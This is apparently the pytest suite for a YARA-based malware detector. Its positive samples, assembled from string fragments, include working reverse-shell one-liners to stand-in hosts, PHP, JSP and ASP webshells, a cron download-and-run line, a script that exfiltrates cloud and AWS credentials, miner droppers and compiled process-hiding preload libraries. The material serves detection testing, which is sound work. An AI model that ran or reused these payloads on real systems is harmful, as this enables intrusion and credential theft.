"""The bundled YARA rules (recall and precision) and the YaraDetector around them.

Hostile samples are assembled here from fragments (`J(...)`) so the repository itself does
not trip other scanners; preload libraries are compiled with the system C compiler.
"""

from __future__ import annotations

import base64
import os
import random
import re
import shutil
import stat
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
import yara

from explorer.detectors import yara_scan
from explorer.detectors.base import ScanOptions
from explorer.detectors.yara_scan import RULES_DIR, YaraDetector
from explorer.core.errors import ExplorerError
from explorer.core.findings import CATEGORIES, SEVERITIES, at_least
from explorer.core.model import EntryKind, FileEntry

FAMILIES = ("miners", "reverse_shells", "webshells", "rootkits", "credentials", "packers", "persistence")
"""Private keys and tokens belong to the secret rules (explorer/detectors/secret_rules.py); credentials.yar
holds only credential material they do not cover (password-hash dumps)."""


def J(*parts: str) -> bytes:
    return "".join(parts).encode()


def entry(path: str, size: int = 1, kind: EntryKind = EntryKind.FILE) -> FileEntry:
    return FileEntry(path=path, kind=kind, layer=0, mode=0o644, size=size)


@pytest.fixture(scope="module")
def detector(tmp_path_factory) -> YaraDetector:
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("XDG_CACHE_HOME", str(tmp_path_factory.mktemp("cache")))
        return YaraDetector()


def scan(det: YaraDetector, data: bytes, path: str = "/srv/app/file") -> list:
    return list(det.scan(entry(path, len(data)), data))


def ids(matches) -> set[str]:
    return {m.rule_id for m in matches}


# -- samples ------------------------------------------------------------------------------------

_B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def wallet(seed: int = 7) -> str:
    rng = random.Random(seed)
    return "4" + rng.choice("AB123456789") + "".join(rng.choice(_B58) for _ in range(93))


def b64_lines(n_bytes: int, seed: int, width: int = 64) -> str:
    body = base64.b64encode(random.Random(seed).randbytes(n_bytes)).decode()
    return "".join(body[i:i + width] + "\n" for i in range(0, len(body), width))


def binary_blob(*strings: bytes, seed: int = 1, elf: bool = True) -> bytes:
    """Noise with the given strings NUL-separated inside, as in a stripped binary."""
    rng = random.Random(seed)
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" if elf else b"\x89PNG\r\n\x1a\n"
    out = bytearray(head + rng.randbytes(4000))
    for s in strings:
        out += b"\0" + s + b"\0" + rng.randbytes(rng.randrange(200, 3000))
    return bytes(out)


XMRIG_STRINGS = (J("--don", "ate-level=N"), J("--cpu-", "priority"), J("rx", "/0"), J("XMR", "ig/6.21.0"),
                 J("--rand", "omx-1gb-pages"))

PYTHON_SHELL = J("import socket,subprocess,os\n", "s=socket.", "socket(socket.AF_INET,socket.SOCK_STREAM)\n",
                 's.con', 'nect(("10.0.0.1",4444))\n', "os.du", "p2(s.fileno(),0); os.du", "p2(s.fileno(),1)\n",
                 "os.du", "p2(s.fileno(),2)\n", 'p=subprocess.call(["/bin', '/sh","-i"])\n')

XMRIG_CONFIG = J('{\n  "autosave": true,\n  "cpu": {"enabled": true, "huge-pages": true},\n',
                 '  "donate', '-level": 1,\n  "pools": [\n    {"algo": "rx', '/0", "url": "pool.example.net:443",\n',
                 '     "user": "', wallet(3), '", "pass": "x", "tls": true}\n  ]\n}\n')

POSITIVES: list[tuple[str, str, bytes]] = [
    # (rule id, path in the image, content)
    ("miner.xmrig-strings", "/usr/lib/x86_64-linux-gnu/kworker", binary_blob(*XMRIG_STRINGS)),
    ("miner.xmrig-strings", "/var/www/html/logo.png", binary_blob(*XMRIG_STRINGS, seed=2, elf=False)),
    ("miner.stratum-url", "/opt/run.sh", J("./x -o stra", "tum+tcp://pool.example.net:3333 -k\n")),
    ("miner.stratum-url", "/opt/run.bat", J("x.exe -o stra", "tum+ssl://10.1.2.3:14433\n").decode().encode("utf-16-le")),
    ("miner.pool-host", "/etc/hosts.conf", J("host = pool.support", "xmr.com\n")),
    ("miner.monero-wallet", "/root/.env", J("WALLET=", wallet(), "\n")),
    ("miner.monero-wallet", "/root/w.txt", J("# payout\n", wallet(5), "\n")),
    ("miner.monero-wallet", "/root/w.list", J("# donations\n'", wallet(6), "'\n")),
    ("miner.monero-wallet", "/root/w.json", J('[\n"', wallet(7), '"\r\n]\n')),
    ("miner.wallet-with-pool", "/tmp/.x/start", J("./sys -o pool.example.net:80 -u ", wallet(), " -p x --don",
                                                 "ate-level 1\n")),
    ("miner.xmrig-config", "/tmp/.x/config.json", XMRIG_CONFIG),
    ("miner.dropper-script", "/tmp/d.sh", J("#!/bin/sh\ncd /tmp\ncurl -fsSL http://203.0.113.9/x", "mrig -o sys\n",
                                            "chmod +x sys\nnohup ./sys -c config.json >/dev/null 2>&1 &\n")),
    ("miner.competitor-killer", "/etc/cron.hourly/clean", J("#!/bin/bash\npkill -f kdev", "tmpfsi\n",
                                                            "pkill -9 kin", "sing\nps aux | grep xm", "rig | ",
                                                            "grep -v grep | awk '{print $2}' | xargs kill -9\n")),
    ("miner.keepalive", "/usr/local/bin/watch.sh", J("#!/bin/sh\nwhile true; do\n  if ! pgrep xm", "rig >/dev/null;",
                                                     " then\n    nohup /tmp/.x/xm", "rig >/dev/null 2>&1 &\n",
                                                     "  fi\n  sleep 60\ndone\n")),
    ("backdoor.revshell-bash-dev-tcp", "/etc/rc.local", J("#!/bin/sh\nba", "sh -i >& /dev/", "tcp/10.0.0.1/4444 0>&1\n")),
    ("backdoor.revshell-bash-dev-tcp", "/root/.bashrc", J("exec 5<>/dev/", "tcp/evil.example/80\ncat <&5 | sh\n")),
    ("backdoor.revshell-netcat", "/etc/profile.d/x.sh", J("n", "c -e /bin", "/sh 10.0.0.1 4444\n")),
    ("backdoor.revshell-netcat", "/srv/x", J("nca", "t 10.0.0.1 4444 --exec /bin", "/bash\n")),
    ("backdoor.revshell-socat", "/srv/s.sh", J("so", "cat tcp-connect:10.0.0.1:4444 exec:", "'bash -li',pty,stderr\n")),
    ("backdoor.revshell-fifo", "/srv/f.sh", J("rm /tmp/f;mk", "fifo /tmp/f;cat /tmp/f|/bin", "/sh -i 2>&1|n",
                                              "c 10.0.0.1 4444 >/tmp/f\n")),
    ("backdoor.revshell-python", "/usr/lib/python3/dist-packages/x.py", PYTHON_SHELL),
    ("backdoor.revshell-perl", "/srv/p.pl", J('use Socket;$i="10.0.0.1";$p=4444;soc', 'ket(S,PF_INET,SOCK_STREAM,',
                                              'getprotobyname("tcp"));if(con', 'nect(S,sockaddr_in($p,inet_aton($i)))){',
                                              'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");',
                                              'ex', 'ec("/bin/sh -i");};\n')),
    ("backdoor.revshell-ruby", "/srv/r.rb", J('f=TCP', 'Socket.open("10.0.0.1",4444).to_i;ex', 'ec sprintf(',
                                              '"/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\n')),
    ("backdoor.revshell-php", "/var/www/r.php", J('<?php $sock=fsock', 'open("10.0.0.1",4444);ex', 'ec("/bin',
                                                  '/sh -i <&3 >&3 2>&3"); ?>\n')),
    ("backdoor.webshell-php", "/var/www/html/up.php", J("<?php @ev", "al($_PO", "ST['cmd']); ?>\n")),
    ("backdoor.webshell-php", "/var/www/html/s.php", J("<?php echo sys", "tem($_GET['c']); ?>\n")),
    ("backdoor.webshell-php-obfuscated", "/var/www/html/i.php", J("<?php ev", "al(gzin", "flate(base64_", "decode('",
                                                                  b64_lines(300, 9, 4000).strip(), "'))); ?>\n")),
    ("backdoor.webshell-jsp", "/usr/local/tomcat/webapps/ROOT/c.jsp",
     J('<%@ page import="java.io.*" %><% Process p = Run', 'time.getRuntime().ex', 'ec(request.get',
       'Parameter("cmd")); %>\n')),
    ("backdoor.webshell-asp", "/inetpub/wwwroot/x.asp", J('<%@ Language=VBScript %><% ev', 'al request("x") %>\n')),
    ("backdoor.webshell-asp", "/inetpub/wwwroot/y.aspx", J('<%@ Page Language="Jscript"%><%ev', 'al(Request.Item',
                                                           '["pass"],"unsafe");%>\n')),
    ("backdoor.ssh-key-injection", "/tmp/i.sh", J("mkdir -p /root/.ssh\necho 'ssh-", "rsa AAAAB3NzaC1yc2E",
                                                  "A" * 60, " x@y' >> /root/.ssh/authorized_keys\n")),
    ("backdoor.preload-writer", "/tmp/p.sh", J("ec", "ho /usr/local/lib/libsys.so > /etc/ld.so.", "preload\n")),
    ("backdoor.cron-download-exec", "/var/spool/cron/crontabs/root",
     J("*/5 * * * * cu", "rl -fsSL http://203.0.113.9/a.sh | sh\n")),
    ("backdoor.cloud-credential-theft", "/tmp/grab.sh",
     J("#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/iam/", "security-credentials/ > /tmp/c\n",
       "cat /root/.aws/", "credentials >> /tmp/c\ncurl -F 'f=@/tmp/c' http://203.0.113.9/up\n")),
    ("suspicious.upx-packed-elf", "/usr/local/bin/tool",
     b"\x7fELF\x02\x01\x01" + bytes(0xe0) + b"UPX!" + bytes(64) + random.Random(8).randbytes(5000)
     + J("$Info: This file is packed with the UPX", " executable packer http://upx.sf.net $\n") + b"UPX!" + bytes(8)),
    ("secret.password-hash-dump", "/etc/shadow",
     J("root:$6$", "Qx7vK2mN$", "w9Zl0" * 14, ":19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n")),
    ("suspicious.upx-packed-pe", "/opt/win/a.exe",
     b"MZ" + bytes(0x3a) + (0x80).to_bytes(4, "little") + bytes(0x40) + b"PE\0\0" + bytes(0x100)
     + b"UPX0\0\0\0\0" + bytes(32) + b"UPX1\0\0\0\0" + bytes(300) + b"UPX!" + bytes(100)),
]


# -- rule set shape -----------------------------------------------------------------------------

def test_one_file_per_family_and_complete_metadata():
    assert {p.stem for p in RULES_DIR.glob("*.yar")} == set(FAMILIES)
    seen = set()
    for path in sorted(RULES_DIR.glob("*.yar")):
        for rule in yara.compile(filepath=str(path)):
            if rule.is_private:
                continue
            meta = dict(rule.meta)
            assert set(meta) >= {"id", "category", "severity", "description"}, (path.name, rule.identifier)
            assert re.fullmatch(r"[a-z]+\.[a-z0-9-]+", meta["id"]), meta["id"]
            assert meta["category"] in CATEGORIES and meta["severity"] in SEVERITIES, meta
            assert meta["id"].split(".")[0] in {"miner", "backdoor", "secret", "suspicious"}
            assert meta["id"] not in seen, f"duplicate id {meta['id']}"
            seen.add(meta["id"])


def test_every_rule_has_a_positive_sample(detector):
    catalog = {rid for rid, *_ in detector.rule_catalog()} - {yara_scan.TIMEOUT_RULE[0]}
    assert catalog <= {rid for rid, _, _ in POSITIVES} | set(ROOTKIT_IDS)
    assert len(detector.rules_sha256) == 64


# -- recall ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("rule_id,path,data", POSITIVES, ids=[f"{r}:{p}" for r, p, _ in POSITIVES])
def test_positive(detector, rule_id, path, data):
    matches = {m.rule_id: m for m in scan(detector, data, path)}
    assert rule_id in matches, sorted(matches)
    m = matches[rule_id]
    assert m.line is not None and m.line >= 1
    assert m.evidence and m.evidence.isprintable()
    assert m.title


def test_disguised_miner_is_critical_whatever_its_name(detector):
    for path, data in [("/usr/sbin/kworker", binary_blob(*XMRIG_STRINGS, seed=11)),
                       ("/usr/share/icons/a.png", binary_blob(*XMRIG_STRINGS, seed=12, elf=False))]:
        hits = [m for m in scan(detector, data, path) if m.rule_id == "miner.xmrig-strings"]
        assert hits and hits[0].severity == "critical" and hits[0].category == "miner"


def test_line_and_evidence_are_of_the_first_match(detector):
    data = J("line one\nline two\r\nba", "sh -i >& /dev/", "tcp/10.0.0.1/4444 0>&1\n")
    (m,) = [m for m in scan(detector, data) if m.rule_id == "backdoor.revshell-bash-dev-tcp"]
    assert m.line == 3
    assert m.evidence.startswith("bash -i >& /dev/tcp/10.0.0.1/4444")
    assert (m.category, m.severity) == ("backdoor", "critical")


def test_evidence_escapes_control_characters(detector):
    data = J("<?php @ev", "al(\x1b[31m\t$_GET['c']); ?>")
    (m,) = [m for m in scan(detector, data) if m.rule_id == "backdoor.webshell-php"]
    assert "\x1b" not in m.evidence and "\\x1b" in m.evidence and "\\t" in m.evidence


CUSTOM_SECRET_RULE = """
rule custom_key {
    meta:
        id = "secret.custom-key"
        category = "secret"
        severity = "high"
        description = "A user rule for key material"
    strings:
        $a = "-----BEGIN TEST CUSTOM KEY-----"
    condition:
        $a
}
"""
CUSTOM_KEY = J("-----BEGIN TEST CUSTOM", " KEY-----\n", b64_lines(300, 3))


@pytest.fixture
def custom_secret_detector(tmp_path):
    (tmp_path / "custom.yar").write_text(CUSTOM_SECRET_RULE)
    return YaraDetector(ScanOptions(extra_rule_dirs=(str(tmp_path),)))


def test_secret_evidence_of_a_user_rule_is_masked_after_six_characters(custom_secret_detector):
    (m,) = [m for m in scan(custom_secret_detector, CUSTOM_KEY, "/srv/app/key.pem") if m.rule_id == "secret.custom-key"]
    assert m.evidence[:6] == "-----B" and set(m.evidence[6:]) == {"*"}
    assert m.severity == "high" and m.reason == ""


@pytest.mark.parametrize("path,reason", [
    ("/usr/lib/python3.11/test/certdata/keycert.pem", "test fixture path"),
    ("/usr/share/doc/libxmlsec1-dev/examples/rsakey.pem", "documentation path"),
    ("/usr/local/lib/python3.11/site-packages/moto/moto_proxy/ca.key", "bundled in an installed package"),
])
def test_published_secrets_of_user_rules_are_low_with_a_reason(custom_secret_detector, path, reason):
    (m,) = [m for m in scan(custom_secret_detector, CUSTOM_KEY, path) if m.rule_id == "secret.custom-key"]
    assert m.severity == "low" and m.reason.startswith(reason)


def test_backdoor_in_a_test_folder_keeps_its_severity(detector):
    m = [m for m in scan(detector, PYTHON_SHELL, "/app/tests/helper.py") if m.rule_id == "backdoor.revshell-python"]
    assert m and m[0].severity == "critical"


# -- precision: realistic negatives ---------------------------------------------------------------

NEGATIVES: list[tuple[str, bytes]] = [
    ("bash manual", b"/dev/tcp/host/port\n  If host is a valid hostname or Internet address, and port is an integer\n"
                    b"port number, bash attempts to open the corresponding TCP socket.\n bash -i  interactive\n"),
    ("python client", b"import socket, subprocess, os\ns = socket.socket()\ns.connect((host, port))\n"
                      b"subprocess.run(['ls', '-l'])\nos.dup2(fd, 1)\n"),
    ("pty module", b"def spawn(argv):\n    pid, fd = fork()\n    if pid == 0:\n        os.dup2(slave_fd, 0)\n"
                   b"        os.execlp(argv[0], *argv)\n"),
    ("php form", b"<?php echo htmlspecialchars($_GET['name'] ?? ''); $x = intval($_POST['n']); ?>\n"),
    ("php legit eval-free", b"<?php $data = base64_decode($_POST['img']); file_put_contents($path, $data); ?>\n"),
    ("jsp form", b"<% String n = request.getParameter(\"n\"); out.println(n); %>\n"),
    ("crypto notes", b"CryptoNight and RandomX (rx/0) are proof-of-work algorithms used by Monero.\n"),
    ("db pools", b'{"pools": [{"name": "main", "url": "db.internal:5432", "user": "app", "max": 10}]}\n'),
    ("service restart", b"#!/bin/sh\npkill -f gunicorn\nkillall nginx\nps aux | grep celery | xargs kill -9\n"),
    ("key format strings", b'HEADER = b"-----BEGIN %s PRIVATE KEY-----"\nPEM = "-----BEGIN PRIVATE KEY-----\\n"\n'),
    ("certificate", J("-----BEGIN CERTIFICATE-----\n", b64_lines(600, 10), "-----END CERTIFICATE-----\n")),
    ("public key line", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF" + b"x" * 43 + b" user@host\n"),
    ("crontab", b"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
                b"0 3 * * * /usr/local/bin/backup.sh >/dev/null 2>&1\n"),
    ("installer", b"#!/bin/sh\ncurl -fsSL https://example.com/tool.tar.gz -o t.tgz\ntar xzf t.tgz\n"
                  b"chmod +x tool\nnohup ./tool serve >/dev/null 2>&1 &\n"),
    ("base64 blob", J("data = '", base64.b64encode(random.Random(3).randbytes(3000)).decode(), "'\n")),
    ("nc usage", b"Usage: nc [-46CDdFhklNnrStUuvZz] [-e filename] [-p source_port] destination port\n"),
    ("socat doc", b"socat TCP4-LISTEN:8080,fork TCP4:backend:80\nsocat - EXEC:'ls -l'\n"),
    ("asp page", b"<%@ Language=VBScript %><% Response.Write(Server.HTMLEncode(Request(\"q\"))) %>\n"),
]


@pytest.mark.parametrize("name,data", NEGATIVES, ids=[n for n, _ in NEGATIVES])
def test_negative(detector, name, data):
    assert scan(detector, data) == []


# -- preload libraries, compiled for real ---------------------------------------------------------

ROOTKIT_IDS = ("backdoor.libprocesshider", "backdoor.preload-readdir-hook", "backdoor.userland-rootkit")

_HOOK = """
#define _GNU_SOURCE
#include <dlfcn.h>
#include <dirent.h>
#include <stdio.h>
#include <string.h>
static const char *FILTER = "x";
%(extra)s
struct %(ent)s *%(fn)s(DIR *d) {
    struct %(ent)s *(*orig)(DIR *) = dlsym(RTLD_NEXT, "%(fn)s");
    struct %(ent)s *e;
    char buf[256];
    while ((e = orig(d)) != NULL) {
        snprintf(buf, sizeof buf, "/proc/%%s/stat", e->d_name);
        if (strcmp(buf, FILTER) != 0) break;
    }
    return e;
}
"""

_HIDER_EXTRA = ("static const char *process" "_to_filter = \"x\";\n"
                "int get_dir" "_name(DIR *d, char *b, size_t n) { return snprintf(b, n, \"%%p\", (void*)d); }\n"
                "int get_process" "_name(char *p, char *b) { return snprintf(b, 8, \"%%s\", p); }\n")

_ROOTKIT_EXTRA = ("const char *rk_cfg = \"/etc/ld.so." "preload\";\n"
                  "#define HOOK(name, ret, args, call) ret name args { ret (*o) args = dlsym(RTLD_NEXT, #name);"
                  " return o call; }\n"
                  "HOOK(fopen, FILE *, (const char *p, const char *m), (p, m))\n"
                  "HOOK(unlink, int, (const char *p), (p))\n"
                  "HOOK(access, int, (const char *p, int m), (p, m))\n")

_BENIGN_PRELOAD = """
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stddef.h>
void *malloc(size_t n) { void *(*o)(size_t) = dlsym(RTLD_NEXT, "malloc"); return o(n); }
const char *where = "/proc/self/maps";
"""


def _build_so(tmp_path: Path, name: str, source: str) -> bytes:
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("no C compiler")
    src = tmp_path / f"{name}.c"
    src.write_text(source)
    out = tmp_path / f"{name}.so"
    subprocess.run([cc, "-shared", "-fPIC", "-O1", "-o", str(out), str(src), "-ldl"], check=True,
                   capture_output=True)
    return out.read_bytes()


@pytest.mark.parametrize("rule_id,source", [
    ("backdoor.libprocesshider", _HOOK % {"fn": "readdir", "ent": "dirent", "extra": _HIDER_EXTRA}),
    ("backdoor.preload-readdir-hook", _HOOK % {"fn": "readdir64", "ent": "dirent64", "extra": ""}),
    ("backdoor.userland-rootkit", _HOOK % {"fn": "readdir", "ent": "dirent", "extra": _ROOTKIT_EXTRA}),
], ids=["libprocesshider", "readdir64-hook", "rootkit"])
def test_preload_hiders(detector, tmp_path, rule_id, source):
    data = _build_so(tmp_path, "hook", source)
    assert rule_id in ids(scan(detector, data, "/usr/local/lib/libnetresolv.so"))


def test_elf_only_rule_files_cannot_match_anything_but_elf(detector, tmp_path):
    """rootkits.yar is marked `// explorer: elf-only`, so it runs on ELF data alone. The claim, checked
    with every rule in one set: the hiders, their ELF magic changed, match nothing; and the set
    picked for non-ELF data lacks the rootkit rules while the one for ELF data has them."""
    assert detector._elf_only == {"builtin/rootkits"}
    everything = detector._rule_set(True, True)
    for name, (rule_id, source) in {"hider": ("backdoor.libprocesshider", _HOOK % {
            "fn": "readdir", "ent": "dirent", "extra": _HIDER_EXTRA}),
            "rootkit": ("backdoor.userland-rootkit", _HOOK % {
                "fn": "readdir", "ent": "dirent", "extra": _ROOTKIT_EXTRA})}.items():
        data = _build_so(tmp_path, name, source)
        assert rule_id.replace("backdoor.", "backdoor_").replace("-", "_") in {
            m.rule for m in everything.match(data=data)}
        assert not [m for m in everything.match(data=b"\x7fELG" + data[4:]) if m.namespace == "builtin/rootkits"]
    text_rules, _ = detector._pick(b"#!/bin/sh\n")
    elf_rules, _ = detector._pick(b"\x7fELF" + bytes(60))
    assert "backdoor_libprocesshider" not in {r.identifier for r in text_rules}
    assert "backdoor_libprocesshider" in {r.identifier for r in elf_rules}
    assert "miner_xmrig_strings" in {r.identifier for r in text_rules}


def test_the_elf_only_mark_is_a_line_of_its_own_in_any_rule_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    extra = _write(tmp_path / "rules", "elfy.yar", '// explorer: elf-only\n'
                   'rule elfy { strings: $a = "ELFY-MARK" condition: $a }\n')
    _write(tmp_path / "rules", "loose.yar", '/* not a mark: // explorer: elf-only, said in passing */\n'
           'rule loose { strings: $a = "LOOSE-MARK" condition: $a }\n')
    det = YaraDetector(ScanOptions(extra_rule_dirs=(str(extra),)))
    assert det._elf_only == {"builtin/rootkits", "extra1/elfy"}
    assert ids(scan(det, b"ELFY-MARK LOOSE-MARK\n")) == {"custom.loose"}
    assert ids(scan(det, b"\x7fELF" + bytes(60) + b"ELFY-MARK LOOSE-MARK\n")) == {"custom.elfy", "custom.loose"}
    big = b"\x7fELF" + bytes(yara_scan.KEYWORD_OFFSETS_MAX) + b"ELFY-MARK"
    assert ids(scan(det, big)) == {"custom.elfy"} and ids(scan(det, big[4:])) == set()


def test_benign_preload_library_is_clean(detector, tmp_path):
    assert scan(detector, _build_so(tmp_path, "shim", _BENIGN_PRELOAD)) == []


@pytest.mark.parametrize("name", ["libc.so.6", "libasan.so.8", "libtsan.so.2", "libfakeroot/libfakeroot-sysv.so",
                                  "libgnutls.so.30"])
def test_real_libraries_raise_nothing_high(detector, name):
    """Rootkit rules vs. libc/sanitizers/fakeroot; key rules vs. gnutls's compiled-in self-test keys."""
    path = Path("/usr/lib/x86_64-linux-gnu") / name
    if not path.is_file():
        pytest.skip(f"{path} not installed")
    found = scan(detector, path.read_bytes(), str(path))
    assert not [m for m in found if at_least(m.severity, "high")], found


# -- the detector around the rules -----------------------------------------------------------------

@pytest.mark.parametrize("e,wanted", [
    (entry("/a", 0), False), (entry("/a", 1), True), (entry("/a", 64 << 20), True),
    (entry("/a", (64 << 20) + 1), True), (entry("/d", 0, EntryKind.DIR), False),
    (entry("/l", 10, EntryKind.SYMLINK), False), (entry("/h", 10, EntryKind.HARDLINK), False),
])
def test_wants(detector, e, wanted):
    assert detector.wants(e) is wanted


def test_a_part_past_the_prefix_is_scanned_with_lines_of_the_whole_file(detector):
    part = b"padding\n" * 2 + PYTHON_SHELL
    (m,) = detector.scan_part(entry("/srv/big.bin", 100 << 20), part, newlines_before=1000)
    assert m.rule_id == "backdoor.revshell-python" and m.line == 1004  # the line of "s=socket.socket("
    assert detector.keyword_hits.take(part) is None, "no keyword rules in a part's pass"
    # a part never starts the file: ELF-only rules do not run on it, whatever its first bytes
    rules = detector._rule_set(False, False)
    assert "backdoor_libprocesshider" not in {r.identifier for r in rules}


def test_compiled_rules_are_cached_on_disk(tmp_path, monkeypatch):
    monkeypatch.setenv("EXPLORER_CACHE_DIR", str(tmp_path / "explorer"))
    first = YaraDetector()
    assert not first.loaded_from_cache
    assert first.cache_path.parent == tmp_path / "explorer" and first.cache_path.is_file()

    def no_compile(*args, **kwargs):
        raise AssertionError("compiled again despite the cache")

    monkeypatch.setattr(yara_scan.yara, "compile", no_compile)
    second = YaraDetector()
    assert second.loaded_from_cache and second.cache_path == first.cache_path
    assert second.rules_sha256 == first.rules_sha256
    assert "miner.xmrig-strings" in ids(scan(second, POSITIVES_BY_ID["miner.xmrig-strings"]))


def test_corrupt_or_unwritable_cache_falls_back_to_compiling(tmp_path, monkeypatch):
    monkeypatch.setenv("EXPLORER_CACHE_DIR", str(tmp_path / "explorer"))
    first = YaraDetector()
    first.cache_path.write_bytes(b"not compiled rules")
    again = YaraDetector()
    assert not again.loaded_from_cache and again.rule_catalog() == first.rule_catalog()

    blocker = tmp_path / "file"
    blocker.write_text("a file where the cache folder should be")
    monkeypatch.setenv("EXPLORER_CACHE_DIR", str(blocker / "explorer"))
    det = YaraDetector()
    assert not det.loaded_from_cache and not det.cache_path.exists()
    assert "backdoor.revshell-python" in ids(scan(det, PYTHON_SHELL))


def _write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text)
    return folder


def test_extra_rules_get_defaults_and_disabled_ids_are_dropped(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    extra = _write(tmp_path / "rules", "mine.yar",
                   'rule house_marker { strings: $a = "HOUSE-MARKER-42" condition: $a }\n'
                   'rule tagged { meta: id = "acme.tagged" category = "secret" severity = "bogus" '
                   'strings: $a = "ACME-TAG" condition: $a }\n')
    det = YaraDetector(ScanOptions(extra_rule_dirs=(str(extra),)))
    catalog = {r.id: [r.category, r.severity, r.description] for r in det.rule_catalog()}
    assert catalog["custom.house_marker"] == ["suspicious", "medium", "house_marker"]
    assert catalog["acme.tagged"] == ["secret", "medium", "tagged"]
    assert det.rules_sha256 != YaraDetector().rules_sha256

    data = J("x\nHOUSE-MARKER-42 ACME-TAG-ABCDEFGHIJ\n", "ba", "sh -i >& /dev/", "tcp/10.0.0.1/4444 0>&1\n")
    found = {m.rule_id: m for m in scan(det, data)}
    assert found["custom.house_marker"].line == 2 and found["custom.house_marker"].evidence == "HOUSE-MARKER-42"
    assert found["acme.tagged"].evidence == "ACME-T**"
    assert "backdoor.revshell-bash-dev-tcp" in found

    quiet = YaraDetector(ScanOptions(extra_rule_dirs=(str(extra),),
                                     disabled=frozenset({"custom.house_marker", "backdoor.revshell-bash-dev-tcp"})))
    assert ids(scan(quiet, data)) == {"acme.tagged"}


def test_bad_user_rules_are_one_line_errors_naming_the_file(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    _write(tmp_path / "ok", "good.yar", 'rule fine { strings: $a = "x1y2" condition: $a }\n')
    bad = _write(tmp_path / "ok", "broken.yar", "rule broken {\n  condition: $missing and\n}\n")
    with pytest.raises(ExplorerError) as err:
        YaraDetector(ScanOptions(extra_rule_dirs=(str(bad),)))
    message = str(err.value)
    assert "broken.yar" in message and "\n" not in message and "good.yar" not in message

    with pytest.raises(ExplorerError, match="not found"):
        YaraDetector(ScanOptions(extra_rule_dirs=(str(tmp_path / "nowhere"),)))
    with pytest.raises(ExplorerError, match="no .yar"):
        YaraDetector(ScanOptions(extra_rule_dirs=(str(_write(tmp_path / "empty", "README", "x")),)))


def test_scan_errors_and_timeouts_are_reported_not_swallowed(detector, monkeypatch):
    class Stuck:
        def match(self, **kwargs):
            assert kwargs["timeout"] == detector.timeout
            raise yara.TimeoutError("scanning timed out")

    use_rules(monkeypatch, detector, Stuck())
    (m,) = scan(detector, b"anything")
    assert (m.rule_id, m.category, m.severity) == ("suspicious.yara-timeout", "suspicious", "low")
    assert "timed out" in m.evidence


def use_rules(monkeypatch, det: YaraDetector, rules) -> None:
    """Every pass of `det` goes to `rules` (a stand-in with a `match` method)."""
    monkeypatch.setattr(det, "_pick", lambda data: (rules, len(data) <= yara_scan.KEYWORD_OFFSETS_MAX))


class Counting:
    """The rule sets the detector picks, counting the passes."""

    def __init__(self, det: YaraDetector):
        self.pick, self.passes = det._pick, 0

    def match(self, **kwargs):
        self.passes += 1
        return self.pick(kwargs["data"])[0].match(**kwargs)


def digested(path: str, data: bytes, digest: str) -> FileEntry:
    return FileEntry(path=path, kind=EntryKind.FILE, layer=0, mode=0o644, size=len(data), digest=digest)


def test_a_second_copy_of_the_same_bytes_needs_no_pass_and_keeps_its_own_path_reason(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    det = YaraDetector()
    counting = Counting(det)
    use_rules(monkeypatch, det, counting)
    shadow = J("root:$6$", "Qx7vK2mN$", "w9Zl0" * 14, ":19000::::::\n", "x=", "ghp_", "a1B2" * 9, "\n")
    first = list(det.scan(digested("/etc/shadow", shadow, "d1"), shadow))
    hits = det.keyword_hits.take(shadow)
    again = list(det.scan(digested("/usr/share/doc/shadow/examples/shadow", shadow, "d1"), shadow))
    assert counting.passes == 1
    assert det.keyword_hits.take(shadow) == hits and hits[b"ghp_"] == [shadow.index(b"ghp_")]
    (high,) = [m for m in first if m.rule_id == "secret.password-hash-dump"]
    (low,) = [m for m in again if m.rule_id == "secret.password-hash-dump"]
    assert (high.severity, high.reason) == ("medium", "") and low.severity == "low" and low.reason
    assert [(m.rule_id, m.line, m.evidence) for m in first] == [(m.rule_id, m.line, m.evidence) for m in again]

    # other bytes, no digest (a detector fed by a test), or a prefix of other length: a pass each
    other = shadow.replace(b"root", b"toor")
    list(det.scan(digested("/etc/shadow", other, "d2"), other))
    list(det.scan(entry("/etc/shadow", len(shadow)), shadow))
    list(det.scan(digested("/etc/shadow", shadow[:-1], "d1"), shadow[:-1]))
    assert counting.passes == 4


def test_timeouts_are_not_remembered_and_the_memory_is_bounded(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    det = YaraDetector()
    counting = Counting(det)
    data = b"plain text\n"

    class StuckOnce:
        passes = 0

        def match(self, **kwargs):
            self.passes += 1
            if self.passes == 1:
                raise yara.TimeoutError("scanning timed out")
            return counting.match(**kwargs)

    use_rules(monkeypatch, det, StuckOnce())
    assert [m.rule_id for m in det.scan(digested("/a", data, "t"), data)] == ["suspicious.yara-timeout"]
    assert det.keyword_hits.take(data) is None
    assert list(det.scan(digested("/b", data, "t"), data)) == [] and counting.passes == 1
    assert list(det.scan(digested("/c", data, "t"), data)) == [] and counting.passes == 1

    monkeypatch.setattr(yara_scan, "SEEN_FILES", len(det._seen))
    list(det.scan(digested("/d", data, "u"), data))  # full: the oldest outcome (t) goes
    list(det.scan(digested("/e", data, "u"), data))
    assert counting.passes == 2
    list(det.scan(digested("/f", data, "t"), data))
    assert counting.passes == 3, "a copy of a dropped outcome gets a pass of its own"


